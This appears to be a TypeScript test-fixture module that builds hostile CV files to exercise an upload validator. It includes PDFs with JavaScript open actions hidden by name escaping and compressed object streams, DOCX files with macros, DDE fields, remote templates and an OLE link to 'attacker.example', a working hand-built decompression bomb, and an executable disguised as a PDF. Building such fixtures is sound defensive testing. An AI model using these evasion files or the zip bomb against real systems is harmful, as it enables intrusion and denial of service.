/**
 * Small CVs made in the test: PDFs written as text, DOCX files zipped with fflate,
 * and the things a CV must not be. Also a multipart/form-data body builder, for requests a
 * FormData cannot make (no Content-Length, chunked).
 */
import { randomBytes } from 'node:crypto';
import { strToU8, zipSync, zlibSync } from 'fflate';

/** A minimal one-page PDF; `extraObjects` are added before the trailer, `padTo` pads with a comment. */
export function pdfBytes({ extraObjects = '', catalogExtra = '', padTo = 0 }: { extraObjects?: string; catalogExtra?: string; padTo?: number } = {}): Buffer {
  const text = [
    '%PDF-1.7',
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra}>> endobj`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
    extraObjects,
    'trailer << /Root 1 0 R >>',
    '%%EOF',
    '',
  ].join('\n');
  const bytes = Buffer.from(text, 'latin1');
  if (bytes.length >= padTo) return bytes;
  return Buffer.concat([bytes, Buffer.from(`%${'x'.repeat(padTo - bytes.length - 2)}\n`, 'latin1')]);
}

/** A PDF whose open action runs JavaScript. */
export const pdfWithJavaScript = () =>
  pdfBytes({ catalogExtra: '/OpenAction 4 0 R ', extraObjects: '4 0 obj << /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >> endobj' });

/** The same action, its names hex-escaped (`/J#61vaScript`), which readers decode. */
export const pdfWithEscapedJavaScript = () =>
  pdfBytes({ catalogExtra: '/OpenAction 4 0 R ', extraObjects: '4 0 obj << /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> endobj' });

/** The action hidden in a compressed object stream (PDF 1.5), invisible in the file's bytes. */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  const object = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const content = Buffer.from(zlibSync(strToU8(`4 0 ${object}`)));
  const head = Buffer.from(pdfBytes({ catalogExtra: '/OpenAction 4 0 R ' }).toString('latin1').replace('trailer', `5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${content.length} >>\nstream\n`), 'latin1');
  const cut = head.indexOf('stream\n') + 'stream\n'.length;
  return Buffer.concat([head.subarray(0, cut), content, Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1')]);
}

const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

/**
 * A PDF whose catalog opens object 4, kept in object stream 5: `dict` is that stream's
 * dictionary (without /Length), `encode` turns its content into the stream's bytes.
 */
export function pdfWithObjectStream({
  dict = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
  encode = (content: Buffer) => Buffer.from(zlibSync(content)),
  object = JS_ACTION,
  trailerExtra = '',
}: { dict?: string; encode?: (content: Buffer) => Buffer; object?: string; trailerExtra?: string } = {}): Buffer {
  const data = encode(Buffer.from(`4 0 ${object}`, 'latin1'));
  const head = pdfBytes({ catalogExtra: '/OpenAction 4 0 R ' }).toString('latin1').split('trailer')[0]!;
  return Buffer.concat([
    Buffer.from(`${head}5 0 obj << ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\ntrailer << /Root 1 0 R ${trailerExtra}>>\n%%EOF\n`, 'latin1'),
  ]);
}

/** ASCIIHexDecode's encoding. */
export const asciiHex = (data: Buffer) => Buffer.from(`${data.toString('hex').replace(/(.{64})/g, '$1\n')}>`, 'latin1');

/** ASCII85Decode's encoding (`z` for four zero bytes, `~>` at the end). */
export function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let index = 0; index < data.length; index += 4) {
    const group = data.subarray(index, index + 4);
    const padded = Buffer.concat([group, Buffer.alloc(4 - group.length)]);
    let value = padded.readUInt32BE(0);
    if (value === 0 && group.length === 4) {
      out += 'z';
      continue;
    }
    const chars: string[] = [];
    for (let digit = 0; digit < 5; digit++) {
      chars.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += chars.slice(0, group.length + 1).join('');
  }
  return Buffer.from(`${out}~>`, 'latin1');
}

/** RunLengthDecode's encoding (literal runs only). */
export function runLength(data: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let index = 0; index < data.length; index += 128) {
    const run = data.subarray(index, index + 128);
    parts.push(Buffer.from([run.length - 1]), run);
  }
  return Buffer.concat([...parts, Buffer.from([128])]);
}

/** LZWDecode's encoding (9-12-bit codes, most significant bit first, EarlyChange 1); for short data (no table reset). */
export function lzw(data: Buffer): Buffer {
  const table = new Map<string, number>();
  for (let code = 0; code < 256; code++) table.set(String.fromCharCode(code), code);
  let next = 258;
  let bits = 0;
  let count = 0;
  const out: number[] = [];
  const write = (code: number) => {
    const width = next < 512 ? 9 : next < 1024 ? 10 : next < 2048 ? 11 : 12;
    bits = (bits << width) | code;
    count += width;
    while (count >= 8) {
      out.push((bits >>> (count - 8)) & 0xff);
      count -= 8;
    }
    bits &= (1 << count) - 1;
  };
  write(256);
  let word = '';
  for (const byte of data) {
    const char = String.fromCharCode(byte);
    if (table.has(word + char)) {
      word += char;
      continue;
    }
    write(table.get(word)!);
    table.set(word + char, next++);
    word = char;
  }
  if (word) write(table.get(word)!);
  write(257);
  if (count > 0) out.push((bits << (8 - count)) & 0xff);
  return Buffer.from(out);
}

/** PNG predictor 12 ("Up") over rows of `columns` bytes, as /DecodeParms << /Predictor 12 /Columns n >> undoes. */
export function pngUp(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  let previous = Buffer.alloc(columns);
  for (let index = 0; index < data.length; index += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, index, index + columns);
    const encoded = Buffer.alloc(columns + 1);
    encoded[0] = 2;
    for (let column = 0; column < columns; column++) encoded[column + 1] = (row[column]! - previous[column]!) & 0xff;
    rows.push(encoded);
    previous = row;
  }
  return Buffer.concat(rows);
}

/** A PDF carrying an embedded file. */
export const pdfWithEmbeddedFile = () =>
  pdfBytes({ catalogExtra: '/Names << /EmbeddedFiles 4 0 R >> ', extraObjects: '4 0 obj << /Names [(a.exe) 5 0 R] >> endobj' });

const CONTENT_TYPES = (main: string, extra = '') =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
  `<Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

/**
 * A minimal Word document; `macro` adds a VBA project, `macroContentType` only the macro-enabled
 * type; `body` replaces the paragraph of word/document.xml, `files` adds (or replaces) parts.
 */
export function docxBytes({
  macro = false,
  macroContentType = false,
  withoutDocument = false,
  body = '<w:p><w:r><w:t>Ann Lee, engineer</w:t></w:r></w:p>',
  files: extra = {},
}: { macro?: boolean; macroContentType?: boolean; withoutDocument?: boolean; body?: string; files?: Record<string, string | Uint8Array> } = {}): Buffer {
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': strToU8(CONTENT_TYPES(macroContentType ? DOCM_MAIN : DOCX_MAIN)),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
  };
  if (!withoutDocument) {
    files['word/document.xml'] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`,
    );
  }
  if (macro) files['word/vbaProject.bin'] = randomBytes(64);
  for (const [name, value] of Object.entries(extra)) files[name] = typeof value === 'string' ? strToU8(value) : value;
  return Buffer.from(zipSync(files));
}

const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;

/** A document attached to a template: `target` is where Word fetches it from when the document opens. */
export const docxWithTemplate = (target: string) =>
  docxBytes({
    files: {
      'word/settings.xml': '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
      'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId1" Type="${RELATIONSHIP}/attachedTemplate" Target="${target}" TargetMode="External"/>`),
    },
  });

/** A complex field whose instruction is split over runs, as Word writes it (`DDE` + `AUTO ...`). */
export const docxWithField = (...instructionRuns: string[]) =>
  docxBytes({
    body:
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
      instructionRuns.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('') +
      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  });

/** The first bytes of an OLE compound file (what embedded OLE objects and VBA projects are). */
export const oleCompoundFile = () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), randomBytes(1000)]);

/** An embedded OLE object as Word saves one: the object element, its relationship and the binary. */
export const docxWithEmbeddedOle = () =>
  docxBytes({
    body: '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:60pt;height:40pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId9"/></w:object></w:r></w:p>',
    files: {
      'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${RELATIONSHIP}/oleObject" Target="embeddings/oleObject1.bin"/>`),
      'word/embeddings/oleObject1.bin': oleCompoundFile(),
    },
  });

/** A linked OLE object fetched from the network when the document opens. */
export const docxWithExternalOle = () =>
  docxBytes({
    files: { 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${RELATIONSHIP}/oleObject" Target="http://attacker.example/x.rtf" TargetMode="External"/>`) },
  });

/** A hyperlink (external, harmless) and a PAGE field: what real CVs carry. */
export const docxWithLinkAndPageField = () =>
  docxBytes({
    body:
      '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>linkedin.com/in/annlee</w:t></w:r></w:hyperlink></w:p>' +
      '<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    files: { 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId5" Type="${RELATIONSHIP}/hyperlink" Target="https://www.linkedin.com/in/annlee" TargetMode="External"/>`) },
  });

/**
 * Raw DEFLATE data that inflates to `bytes` spaces (at least 1), made by hand without ever
 * holding them: one dynamic-Huffman block whose codes are a space (2 bits), end of block (2
 * bits) and "258 bytes again at distance 1" (1 bit + 1 bit of distance): 2 bits per 258 bytes,
 * so 1.5 GB fit in 1.5 MB. No stored block, as a zip bomb is made.
 */
export function deflateBomb(bytes: number): Buffer {
  const head: number[] = [];
  let byte = 0;
  let used = 0;
  const bit = (value: number) => {
    byte |= (value & 1) << used;
    if (++used === 8) {
      head.push(byte);
      byte = 0;
      used = 0;
    }
  };
  const field = (value: number, count: number) => {
    for (let index = 0; index < count; index++) bit(value >> index);
  };
  const code = (value: number, length: number) => {
    for (let index = length - 1; index >= 0; index--) bit(value >> index);
  };
  field(1, 1); // the final block
  field(2, 2); // dynamic Huffman codes
  field(29, 5); // 286 literal/length codes
  field(0, 5); // 1 distance code
  field(14, 4); // 18 code length codes
  const lengthOfCodeLength: Record<number, number> = { 18: 1, 1: 2, 2: 2 }; // codes: 18 -> 0, 1 -> 10, 2 -> 11
  for (const symbol of [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1]) field(lengthOfCodeLength[symbol] ?? 0, 3);
  const zeros = (count: number) => {
    code(0, 1);
    field(count - 11, 7);
  };
  // Literal/length code lengths: space (32) 2, end (256) 2, length 258 (285) 1; the distance code 0: 1.
  zeros(32);
  code(0b11, 2);
  zeros(138);
  zeros(85);
  code(0b11, 2);
  zeros(28);
  code(0b10, 2);
  code(0b10, 2);
  code(0b10, 2); // one space (literal code 10)
  // Each repeat is two zero bits (length code 0, distance code 0): whole zero bytes once aligned.
  let repeatBits = 2 * Math.max(0, Math.floor((bytes - 1) / 258));
  while (used !== 0 && repeatBits > 0) {
    bit(0);
    repeatBits--;
  }
  const middle = Buffer.alloc(Math.floor(repeatBits / 8));
  const start = Buffer.from(head);
  head.length = 0;
  for (let index = 0; index < repeatBits % 8; index++) bit(0);
  code(0b11, 2); // end of block
  if (used > 0) head.push(byte);
  return Buffer.concat([start, middle, Buffer.from(head)]);
}

/** The same as zlib data (a PDF's FlateDecode); the checksum is left zero, as a hostile file would. */
export const zlibBomb = (bytes: number) => Buffer.concat([Buffer.from([0x78, 0xda]), deflateBomb(bytes), Buffer.alloc(4)]);

export interface RawZipEntry {
  name: string;
  /** The bytes as stored (already deflated when `method` is 8). */
  data: Buffer;
  method: 0 | 8;
  /** The uncompressed size the headers declare (which a hostile file may get wrong). */
  declaredSize: number;
}

/** A ZIP written byte by byte, headers declaring what the entry says (fflate's zipSync always tells the truth). */
export function rawZip(entries: readonly RawZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x800, 6);
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(entry.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x800, 8);
    central.writeUInt16LE(entry.method, 10);
    central.writeUInt32LE(entry.data.length, 20);
    central.writeUInt32LE(entry.declaredSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += 30 + name.length + entry.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const stored = (name: string, text: string | Buffer): RawZipEntry => {
  const data = Buffer.isBuffer(text) ? text : Buffer.from(text);
  return { name, data, method: 0, declaredSize: data.length };
};

/**
 * A DOCX whose `[Content_Types].xml` declares 1,000 bytes and inflates to `megabytes` MB of
 * spaces; `padTo` adds a stored image of random bytes to reach that size.
 */
export function docxBomb({ megabytes = 1500, padTo = 0 }: { megabytes?: number; padTo?: number } = {}): Buffer {
  const entries: RawZipEntry[] = [
    { name: '[Content_Types].xml', data: deflateBomb(megabytes * 1024 * 1024), method: 8, declaredSize: 1000 },
    stored('word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
  ];
  const size = rawZip(entries).length;
  if (padTo > size) entries.push(stored('word/media/image1.png', randomBytes(padTo - size - 200)));
  return rawZip(entries);
}

/** A Windows executable (MZ header), to be sent under a .pdf name. */
export const executableBytes = () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(2000)]);

export interface Part {
  name: string;
  value: string | Buffer;
  filename?: string;
  contentType?: string;
}

/** A multipart/form-data body and its Content-Type. */
export function multipartBody(parts: readonly Part[]): { body: Buffer; contentType: string } {
  const boundary = `----joognoo${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`;
    const type = part.filename === undefined ? '' : `\r\nContent-Type: ${part.contentType ?? 'application/octet-stream'}`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}${type}\r\n\r\n`), Buffer.isBuffer(part.value) ? part.value : Buffer.from(part.value), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}
